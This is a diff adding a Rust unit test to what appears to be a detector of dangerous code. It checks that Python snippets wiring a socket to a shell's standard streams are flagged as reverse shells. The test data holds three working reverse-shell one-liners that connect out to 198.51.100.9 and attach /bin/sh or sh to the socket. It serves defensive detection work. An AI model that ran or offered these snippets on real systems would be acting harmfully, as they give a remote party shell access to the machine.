@@ -1151,3 +1151,22 @@ fn enclosing_parameters_and_tuple_slices() {
         "",
     );
 }
+
+#[test]
+fn a_socket_given_as_a_process_stream_is_a_reverse_shell() {
+    // the socket itself or its descriptor as stdin, stdout or stderr of a process
+    for code in [
+        "import socket,subprocess\ns=socket.socket()\ns.connect(('198.51.100.9', 9))\nsubprocess.call(['/bin/sh'], stdin=s, stdout=s, stderr=s)\n",
+        "import socket,subprocess\nc=socket.create_connection(('198.51.100.9', 9))\nsubprocess.Popen(['sh'], stdout=c)\n",
+        "import socket,subprocess\ns=socket.socket()\ns.connect(('198.51.100.9', 9))\nsubprocess.run(['sh'], stderr=s.fileno())\n",
+    ] {
+        check(Py, code, Dangerous, "escape");
+    }
+    // a socket to this machine, or a process given ordinary streams
+    check(
+        Py,
+        "import socket,subprocess\ns=socket.socket()\ns.connect(('127.0.0.1', 9))\nsubprocess.call(['ls'], stdin=s)\n",
+        Clean,
+        "",
+    );
+}
